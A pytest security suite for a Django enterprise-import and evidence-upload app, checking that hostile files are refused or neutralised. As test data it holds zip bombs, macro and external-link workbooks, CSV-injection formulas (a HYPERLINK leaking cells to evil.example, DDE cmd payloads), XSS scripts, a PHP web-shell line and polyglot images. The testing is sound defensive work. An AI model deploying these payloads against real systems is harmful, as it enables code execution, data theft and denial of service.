"""Hostile uploads, one test per kind: each is refused with a message (and nothing is written or
kept), or neutralised. Every file here is really built (zip archives, workbooks, PDFs, images),
never a mock. The lists of hostile files are what docs/security.md counts per kind."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image

from assessments import evidence
from assessments.models import Evidence
from cleanprod.spreadsheets import FORMULA_TRIGGERS
from enterprises import imports
from enterprises.models import District, Enterprise
from reporting.builders.xlsx import build_xlsx
from reporting.indicators import compute
from reporting.report_data import ReportData
from tests.factories import CourseFactory, SavingsLineFactory, SavingsReportFactory, next_tax_code
from tests.security.pdfs import PDFS_UNCHECKABLE, PDFS_WITH_ACTIVE_CONTENT
from training import imports as attendance_imports
from training.models import Attendance

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- Workbooks ---------------------------------------------------------------------------------


def enterprise_rows(count: int = 1, **overrides) -> list[list]:
    header = ["Mã số thuế", "Tên doanh nghiệp", "Mã quận/huyện", "Mã ngành VSIC", "Địa chỉ", "Loại hình sở hữu",
              "Quy mô", "Số lao động"]  # fmt: skip
    rows: list[list] = [header]
    for _ in range(count):
        values = {
            "tax_code": next_tax_code(),
            "name": "Công ty TNHH Thử",
            "district": "006",
            "sector": "10",
            "address": "Số 1 Tây Sơn",
            "ownership": "private",
            "size": "small",
            "employees": 10,
        }
        values.update(overrides)
        rows.append(list(values.values()))
    return rows


def header_labels() -> list[str]:
    from enterprises.spreadsheet import COLUMNS

    with translation.override("vi"):
        labels = dict((key, str(label)) for key, label in COLUMNS)
    return [labels[k] for k in ("tax_code", "name", "district_code", "sector_code", "address", "ownership", "size",
                                "employees")]  # fmt: skip


def workbook_bytes(rows: list[list], *, text_cells: bool = True) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    rows = [header_labels(), *rows[1:]] if rows and rows[0][0] == "Mã số thuế" else rows
    for values in rows:
        ws.append(values)
        if text_cells:
            for c in ws[ws.max_row]:
                if c.data_type == "f":
                    c.data_type = "s"  # typed text such as "=1+1", stored as text the way Excel does
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def real_xlsx() -> bytes:
    return workbook_bytes(enterprise_rows())


def rezip(data: bytes, *, replace=None, add=None, drop=(), compression=zipfile.ZIP_DEFLATED) -> bytes:
    """The same archive with parts replaced, added or dropped (``[Content_Types].xml`` and
    relationship parts may be edited with ``replace`` as callables)."""
    out = io.BytesIO()
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", compression) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            content = src.read(info)
            change = replace.get(info.filename)
            content = change(content) if callable(change) else (change if change is not None else content)
            dst.writestr(info.filename, content)
        for name, content in add.items():
            dst.writestr(name, content)
    return out.getvalue()


def with_override(part: str, content_type: str):
    return lambda manifest: manifest.replace(
        b"</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'.encode()
    )


def with_relationship(kind: str, target: str, mode: str = ""):
    extra = f' TargetMode="{mode}"' if mode else ""
    rel = f'<Relationship Id="rIdX9" Type="{REL_NS}/{kind}" Target="{target}"{extra}/>'
    return lambda rels: rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def streamed_bomb(part: str, size: int, chunk: bytes = b"<row/>" * 1000) -> bytes:
    """A workbook whose ``part`` really unpacks to ``size`` bytes (written in chunks, deflated)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(real_xlsx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info))
        with dst.open(part, "w", force_zip64=True) as target:
            written = 0
            while written < size:
                target.write(chunk)
                written += len(chunk)
    return out.getvalue()


def lying_sizes(data: bytes, part: str, declared: int) -> bytes:
    """The archive with ``part``'s uncompressed size in the central directory set to ``declared``
    (the data stays small: only the directory lies)."""
    name = data.rfind(part.encode())
    entry = name - 46  # a central directory entry has 46 fixed bytes before its file name
    assert data[entry : entry + 4] == b"PK\x01\x02"
    patched = bytearray(data)
    struct.pack_into("<I", patched, entry + 24, declared)
    return bytes(patched)


def many_entries(count: int) -> bytes:
    return rezip(real_xlsx(), add={f"xl/media/pad{i}.xml": b"<x/>" for i in range(count)})


def unique_shared_strings(size: int) -> bytes:
    """A shared-string table of distinct strings (compresses like real text, about 5 times)."""
    import random

    rng = random.Random(7)
    parts = [
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    ]
    length = len(parts[0])
    while length < size:
        item = b"<si><t>%s</t></si>" % "".join(rng.choice("abcdefghijklmnopqrstuvwxyzđươ ") for _ in range(40)).encode()
        parts.append(item)
        length += len(item)
    parts.append(b"</sst>")
    return b"".join(parts)


def _wide_row(column: int) -> bytes:
    rows = enterprise_rows()
    rows[1] = rows[1] + [None] * (column - len(rows[1]) - 1) + ["ghi chú"]
    return workbook_bytes(rows)


def _declared_dimension() -> bytes:
    return rezip(
        real_xlsx(),
        replace={
            "xl/worksheets/sheet1.xml": lambda x: x.replace(
                b'<dimension ref="A1:H2"', b'<dimension ref="A1:XFD1048576"'
            )
        },
    )


def _vba_renamed() -> bytes:
    """What Excel saves as .xlsm (macro-enabled main part, vbaProject.bin), renamed .xlsx."""
    vba_rel = b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    return rezip(
        real_xlsx(),
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512},
        replace={
            "[Content_Types].xml": lambda m: with_override(
                "/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"
            )(
                m.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            ),
            "xl/_rels/workbook.xml.rels": lambda r: r.replace(b"</Relationships>", vba_rel + b"</Relationships>"),
        },
    )


def _cp1258_shared_strings() -> bytes:
    sst = '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>Công ty Đống Đa</t></si></sst>'
    return rezip(
        real_xlsx(),
        add={"xl/sharedStrings.xml": sst.encode("cp1258", "replace") + b"\x81\x8d\x8f"},
        replace={
            "[Content_Types].xml": with_override(
                "/xl/sharedStrings.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
            ),
        },
    )


# Hostile workbooks, by kind: name -> (builder, what the refusal says in English).
XLSX_BOMBS = {
    "sheet unpacking to 300 MB": (
        lambda: streamed_bomb("xl/worksheets/sheet1.xml", 300 * 1024 * 1024),
        "far more data",
    ),
    "2 MB of zeros packed 1000:1": (
        lambda: rezip(real_xlsx(), add={"xl/media/zeros.bin": b"\0" * (2 * 1024 * 1024)}),
        "far more data",
    ),
    "directory claims a 4 GB sheet": (
        lambda: lying_sizes(real_xlsx(), "xl/worksheets/sheet1.xml", 4 * 1024**3 - 1),
        "far more data",
    ),
    "shared strings over the loaded-part cap": (
        lambda: streamed_bomb("xl/sharedStrings.xml", 70 * 1024 * 1024, b"<si><t>abc</t></si>" * 500),
        "far more data",
    ),
    "2,000 parts": (lambda: many_entries(2000), "far more data"),
    "bzip2-compressed parts": (lambda: rezip(real_xlsx(), compression=zipfile.ZIP_BZIP2), "not an Excel workbook"),
}
XLSX_LINKED = {
    "external link part": (
        lambda: rezip(
            real_xlsx(),
            add={
                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
            },
            replace={
                "[Content_Types].xml": with_override(
                    "/xl/externalLinks/externalLink1.xml",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
                ),
                "xl/_rels/workbook.xml.rels": with_relationship("externalLink", "externalLinks/externalLink1.xml"),
            },
        ),
        "linked to other files",
    ),
    "external link at an odd path, by relationship only": (
        lambda: rezip(
            real_xlsx(),
            add={"xl/misc/x.xml": b"<externalLink/>"},
            replace={"xl/_rels/workbook.xml.rels": with_relationship("externalLink", "misc/x.xml")},
        ),
        "linked to other files",
    ),
    "external link by content type only": (
        lambda: rezip(
            real_xlsx(),
            replace={
                "[Content_Types].xml": with_override(
                    "/xl/misc/y.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
                )
            },
        ),
        "linked to other files",
    ),
    "data connection": (
        lambda: rezip(real_xlsx(), add={"xl/connections.xml": b"<connections/>"}),
        "linked to other files",
    ),
    "web query table": (
        lambda: rezip(
            real_xlsx(),
            replace={
                "xl/_rels/workbook.xml.rels": with_relationship("queryTable", "http://evil.example/q", "External")
            },
        ),
        "linked to other files",
    ),
}
XLSX_MACROS = {
    "xlsm renamed (vbaProject.bin)": (lambda: _vba_renamed(), "macros"),
    "macro-enabled content type": (
        lambda: rezip(
            real_xlsx(),
            replace={
                "[Content_Types].xml": lambda m: m.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            },
        ),
        "macros",
    ),
    "vbaProject relationship at an odd path": (
        lambda: rezip(
            real_xlsx(),
            replace={
                "xl/_rels/workbook.xml.rels": lambda r: r.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                    b'Target="misc/code.dat"/></Relationships>',
                )
            },
        ),
        "macros",
    ),
    "ActiveX control": (lambda: rezip(real_xlsx(), add={"xl/activeX/activeX1.xml": b"<ax/>"}), "embedded objects"),
    "embedded OLE object": (
        lambda: rezip(real_xlsx(), add={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 64}),
        "embedded objects",
    ),
}
XLSX_HUGE_SHEETS = {
    "a value in column 65": (lambda: _wide_row(65), "beyond column 64"),
    "a value in the last column (XFD)": (lambda: _wide_row(16384), "beyond column 64"),
}
XLSX_ENCODINGS = {
    "CSV in UTF-8 named .xlsx": (
        lambda: "Mã số thuế,Tên\n0100109106,Công ty Đống Đa\n".encode(),
        "not an Excel workbook",
    ),
    "CSV in Windows-1258 named .xlsx": (
        lambda: "Mã số thuế;Tên\n0100109106;Công ty Đống Đa\n".encode("cp1258", "replace"),
        "not an Excel workbook",
    ),
    "UTF-16 text named .xlsx": (
        lambda: "Mã số thuế\tTên\r\n0100109106\tCông ty\r\n".encode("utf-16"),
        "not an Excel workbook",
    ),
    "HTML table named .xlsx": (
        lambda: b"<html><body><table><tr><td>=cmd|' /C calc'!A0</td></tr></table></body></html>",
        "not an Excel workbook",
    ),
    "xlsx with Windows-1258 bytes in UTF-8 shared strings": (_cp1258_shared_strings, "could not be read"),
}
HOSTILE_WORKBOOKS = {**XLSX_BOMBS, **XLSX_LINKED, **XLSX_MACROS, **XLSX_HUGE_SHEETS, **XLSX_ENCODINGS}


@pytest.mark.parametrize("kind", list(HOSTILE_WORKBOOKS))
def test_hostile_workbook_is_refused_by_both_importers_with_a_message(doit_user, kind):
    build, message = HOSTILE_WORKBOOKS[kind]
    data = build()
    assert len(data) < 10 * 1024 * 1024  # under the upload limit: refused for what it is, not for its size
    before = Enterprise.objects.count()
    with translation.override("en"):
        with pytest.raises(imports.ImportFileError, match=message):
            imports.parse_enterprise_workbook(io.BytesIO(data), user=doit_user)
        with pytest.raises(imports.ImportFileError, match=message):
            attendance_imports.read_attendance_workbook(io.BytesIO(data))
    assert Enterprise.objects.count() == before


@pytest.mark.parametrize("kind", ["2 MB of zeros packed 1000:1", "external link part", "xlsm renamed (vbaProject.bin)",
                                  "a value in column 65", "CSV in Windows-1258 named .xlsx"])  # fmt: skip
def test_hostile_workbook_upload_shows_the_message_and_keeps_nothing(login, doit_user, private_storage, kind):
    build, message = HOSTILE_WORKBOOKS[kind]
    enterprises_before = Enterprise.objects.count()
    client = login(doit_user, language="en")
    upload = SimpleUploadedFile("doanh-nghiep.xlsx", build(), content_type=XLSX_TYPE)
    response = client.post(reverse("enterprises:import"), {"file": upload}, follow=True)
    assert response.status_code == 200
    if "form" in response.context:  # refused in the request (the file as a whole)
        assert message in " ".join(response.context["form"].errors["file"])
    else:  # refused by the preview task (a row), shown on the job's page
        assert message in response.context["job"].error and response.context["job"].status == "failed"
    course = CourseFactory(kind="officer", start_date=dt.date(2024, 3, 1))
    upload = SimpleUploadedFile("danh-sach.xlsx", build(), content_type=XLSX_TYPE)
    response = client.post(reverse("training:attendance_import", args=[course.pk]), {"file": upload}, follow=True)
    assert response.status_code == 200
    if "form" in response.context:  # refused in the request (the file as a whole)
        assert message in " ".join(response.context["form"].errors["file"])
    else:  # refused by the preview task (a row), shown on the job's page
        assert message in response.context["job"].error and response.context["job"].status == "failed"
    assert not Attendance.objects.exists() and Enterprise.objects.count() == enterprises_before
    assert not private_storage.exists() or not any(p.is_file() for p in private_storage.rglob("*"))


def test_limits_themselves_accept_a_real_large_workbook(doit_user):
    """The caps leave room for real files: 2,000 rows of distinct text read fine."""
    rows = enterprise_rows(2000)
    preview = imports.parse_enterprise_workbook(io.BytesIO(workbook_bytes(rows)), user=doit_user)
    assert preview.total == 2000 and preview.ok


def test_loaded_part_cap_holds_for_text_that_compresses_normally(doit_user, monkeypatch):
    """Shared strings over the cap are refused even when they compress like real text (no ratio alarm)."""
    monkeypatch.setattr(imports.xlsx, "MAX_LOADED_PART_BYTES", 1024 * 1024)
    sst = unique_shared_strings(2 * 1024 * 1024)
    assert len(zlib.compress(sst)) * imports.MAX_COMPRESSION_RATIO > len(sst)
    data = rezip(real_xlsx(), add={"xl/sharedStrings.xml": sst})
    with translation.override("en"), pytest.raises(imports.ImportFileError, match="far more data"):
        imports.parse_enterprise_workbook(io.BytesIO(data), user=doit_user)


def test_too_many_rows_is_refused_by_both_importers(doit_user, settings):
    settings.IMPORT_MAX_ROWS = 5
    data = workbook_bytes(enterprise_rows(6))
    with translation.override("en"):
        with pytest.raises(imports.ImportFileError, match="more than 5 rows"):
            imports.parse_enterprise_workbook(io.BytesIO(data), user=doit_user)
        rows = [["Họ và tên", "Quận/huyện", "Chức vụ", "Đạt"]] + [[f"Cán bộ {i}", "006", "CV", "x"] for i in range(6)]
        with pytest.raises(imports.ImportFileError, match="more than 5 rows"):
            attendance_imports.read_attendance_workbook(io.BytesIO(workbook_bytes(rows)))


def test_huge_declared_dimension_is_ignored_and_the_real_rows_are_read(doit_user):
    """Neutralised: the stored dimension (A1:XFD1048576) is not trusted; one real row is read."""
    data = _declared_dimension()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"A1:XFD1048576" in z.read("xl/worksheets/sheet1.xml")
    preview = imports.parse_enterprise_workbook(io.BytesIO(data), user=doit_user)
    assert preview.total == 1 and preview.ok


def test_hyperlinks_in_a_sheet_are_not_external_data(doit_user):
    """A sheet hyperlink is an external relationship too, but harmless: the file is read."""
    data = rezip(
        real_xlsx(),
        add={
            "xl/worksheets/_rels/sheet1.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{REL_NS}/hyperlink" Target="http://example.vn" TargetMode="External"/>'
                "</Relationships>"
            ).encode()
        },
    )
    assert imports.parse_enterprise_workbook(io.BytesIO(data), user=doit_user).ok


# --- CSV injection ---------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _assert_text_cells(ws, payloads: list[str]) -> None:
    """Every payload is in the sheet as a text cell, unchanged, and formula-like text carries
    Excel's quote prefix; no cell of the sheet is a formula."""
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for payload in payloads:
        # XML turns a carriage return into a line feed on reading; the cell is text either way.
        found = [c for c in cells if c.value in (payload, payload.replace("\r", "\n"))]
        assert found, payload
        for c in found:
            assert c.data_type == "s" and c.quotePrefix == payload.startswith(FORMULA_TRIGGERS)


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_injection_payloads_import_as_text_and_export_neutralised(login, doit_user):
    rows = [header_labels()] + [enterprise_rows(1, name=payload, address=payload)[1] for payload in INJECTIONS]
    preview = imports.parse_enterprise_workbook(io.BytesIO(workbook_bytes(rows)), user=doit_user)
    assert preview.ok, [r.errors for r in preview.rows]
    imports.apply_enterprise_import(preview=preview, by=doit_user)
    stored = set(Enterprise.objects.values_list("name", flat=True))
    assert {imports._text(p) for p in INJECTIONS} <= stored  # kept as the text typed (trimmed like every cell)

    ws = openpyxl.load_workbook(io.BytesIO(download(login(doit_user), reverse("enterprises:export")))).active
    _assert_text_cells(ws, sorted({imports._text(p) for p in INJECTIONS}))


def test_injection_payloads_typed_in_forms_export_neutralised(login, doit_user, district_a):
    from tests.factories import EnterpriseFactory

    for payload in INJECTIONS:
        EnterpriseFactory(name=payload, address=payload, district=district_a)
    content = download(login(doit_user), reverse("enterprises:export"))
    _assert_text_cells(openpyxl.load_workbook(io.BytesIO(content)).active, INJECTIONS)


def test_coverage_export_neutralises_a_formula_like_district_name(login, doit_user):
    District.objects.filter(code="006").update(name=INJECTIONS[0])
    # Before 1/7/2025 the coverage is by district.
    content = download(login(doit_user), reverse("training:coverage_export") + "?as_of=30/06/2025")
    _assert_text_cells(openpyxl.load_workbook(io.BytesIO(content)).active, [INJECTIONS[0]])


def test_report_xlsx_neutralises_formula_like_enterprise_names(district_a):
    from tests.factories import EnterpriseFactory

    for payload in INJECTIONS:
        enterprise = EnterpriseFactory(name=payload, district=district_a)
        report = SavingsReportFactory(enterprise=enterprise, year=2023, status="verified")
        SavingsLineFactory(report=report)
    # The report workbook (its tables) and the detailed data (the lines, with the names).
    from reporting.builders.lines import build_lines_xlsx
    from reporting.detail import gather_lines

    report, detail = io.BytesIO(), io.BytesIO()
    build_xlsx(ReportData.for_indicators(compute(2023)), report)
    build_lines_xlsx(gather_lines(2023, None), detail)
    for stream in (report, detail):
        wb = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))
        for ws in wb.worksheets:
            assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"], ws.title
    lines = openpyxl.load_workbook(io.BytesIO(detail.getvalue())).worksheets[0]
    _assert_text_cells(lines, INJECTIONS)


# --- Evidence: images that are not images -----------------------------------------------------------


def png_bytes(size=(8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (0, 128, 0)).save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(size=(64, 64), **kwargs) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(out, "JPEG", **kwargs)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A structurally valid PNG (right checksums) whose header claims ``width`` × ``height``."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return evidence.PNG_MAGIC + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def jpeg_with_comment(comment: bytes) -> bytes:
    data = jpeg_bytes()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


IMAGES_THAT_ARE_NOT = {
    "HTML named .png": ("anh.png", b"<!doctype html><html><script>alert(1)</script></html>", "unsupported"),
    "PHP named .jpg": ("anh.jpg", b"<?php system($_GET['c']); ?>", "unsupported"),
    "SVG with script named .png": (
        "anh.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "unsupported",
    ),  # fmt: skip
    "PNG signature then HTML": ("anh.png", evidence.PNG_MAGIC + b"<html><script>alert(1)</script>", "corrupt"),
    "JPEG signature then PHP": ("anh.jpg", evidence.JPEG_MAGIC + b"\xe0<?php echo 1; ?>", "corrupt"),
    "truncated JPEG": ("anh.jpg", jpeg_bytes((256, 256), quality=95)[:-400], "corrupt"),
    "JPEG cut in half": ("anh.jpg", jpeg_bytes((256, 256))[: len(jpeg_bytes((256, 256))) // 2], "corrupt"),
    "truncated PNG": ("anh.png", png_bytes((64, 64))[:-20], "corrupt"),
    "polyglot: JPEG with a <script> comment": ("anh.jpg", jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot"),
    "polyglot: PNG with HTML after its end": ("anh.png", png_bytes() + b"<html><body onload=alert(1)>", "polyglot"),
    "polyglot: JPEG with PHP after its end": ("anh.jpg", jpeg_bytes() + b"<?php system('id'); ?>", "polyglot"),
    "polyglot: JPEG with a javascript: URL": ("anh.jpg", jpeg_with_comment(b"javascript:alert(1)"), "polyglot"),
    "PNG claiming 120 megapixels": ("anh.png", png_claiming(12_000, 10_000), "too_large"),
    "PNG claiming 1 gigapixel": ("anh.png", png_claiming(40_000, 25_000), "too_large"),
}


@pytest.mark.parametrize("kind", list(IMAGES_THAT_ARE_NOT))
def test_image_that_is_not_an_image_is_refused(kind):
    name, content, code = IMAGES_THAT_ARE_NOT[kind]
    with pytest.raises(ValidationError) as info:
        evidence.validate_evidence_file(SimpleUploadedFile(name, content))
    assert info.value.code == code and info.value.messages[0]


def test_real_images_with_metadata_are_accepted():
    photo = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "Đồng hồ điện tháng 3"  # ImageDescription
    Image.new("RGB", (1200, 900), (90, 90, 90)).save(photo, "JPEG", exif=exif, progressive=True)
    assert evidence.validate_evidence_file(SimpleUploadedFile("a.jpg", photo.getvalue())) is evidence.JPEG
    assert evidence.validate_evidence_file(SimpleUploadedFile("b.png", png_bytes((640, 480)))) is evidence.PNG


@pytest.mark.parametrize("kind", ["truncated JPEG", "JPEG cut in half", "truncated PNG"])
def test_truncated_images_are_refused_even_when_pillow_is_lenient(monkeypatch, kind):
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # what importing WeasyPrint does
    name, content, code = IMAGES_THAT_ARE_NOT[kind]
    with pytest.raises(ValidationError) as info:
        evidence.validate_evidence_file(SimpleUploadedFile(name, content))
    assert info.value.code == code


def test_photo_with_data_after_its_end_is_accepted():
    """Phones append a video after a motion photo's end-of-image marker: still a whole JPEG."""
    import random

    trailer = b"\x00\x00\x00\x18ftypmp42" + random.Random(3).randbytes(200_000).replace(b"<", b"(")
    data = jpeg_bytes((320, 240)) + trailer
    assert evidence.validate_evidence_file(SimpleUploadedFile("motion.jpg", data)) is evidence.JPEG


# --- Through the upload view: refused, nothing stored -----------------------------------------------

EVIDENCE_UPLOADS = {
    **{k: (name, content) for k, (name, content, _code) in IMAGES_THAT_ARE_NOT.items()},
    **{k: ("bien-ban.pdf", content) for k, content in {**PDFS_WITH_ACTIVE_CONTENT, **PDFS_UNCHECKABLE}.items()},
}


@pytest.fixture
def draft(enterprise_x):
    report = SavingsReportFactory(enterprise=enterprise_x, year=2023)
    SavingsLineFactory(report=report)
    return report


@pytest.mark.parametrize("kind", list(EVIDENCE_UPLOADS))
def test_hostile_evidence_upload_is_refused_and_nothing_is_stored(login, staff_x, draft, private_storage, kind):
    name, content = EVIDENCE_UPLOADS[kind]
    client = login(staff_x, language="en")
    response = client.post(
        reverse("savings:evidence_upload", args=[draft.pk]),
        {"file": SimpleUploadedFile(name, content, content_type="image/png")},
    )
    assert response.status_code == 400
    assert response.context["evidence_form"].errors["file"][0]
    assert not Evidence.objects.exists()
    assert not private_storage.exists() or not any(p.is_file() for p in private_storage.rglob("*"))


def test_oversized_evidence_is_refused_before_its_content_is_read(login, staff_x, draft, private_storage):
    out = io.BytesIO()
    Image.new("RGB", (400, 600), "white").save(out, "PDF")
    big = out.getvalue()
    big = big[:-6] + b" " * (10 * 1024 * 1024) + big[-6:]
    response = login(staff_x, language="en").post(
        reverse("savings:evidence_upload", args=[draft.pk]), {"file": SimpleUploadedFile("to.pdf", big)}
    )
    assert response.status_code == 400
    assert "at most 10.0" in response.context["evidence_form"].errors["file"][0]
    assert not Evidence.objects.exists()
